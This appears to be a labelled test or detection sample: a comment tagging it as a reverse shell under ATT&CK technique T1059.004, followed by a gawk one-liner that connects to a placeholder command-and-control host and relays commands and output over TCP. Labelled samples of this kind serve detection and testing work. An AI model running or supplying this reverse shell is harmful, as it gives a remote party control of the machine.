# expect: reverse-shell | source: T1059.004
awk 'BEGIN {s = "/inet/tcp/0/c2.example.invalid/443"; while (1) {s |& getline c; while ((c |& getline) > 0) print |& s}}'
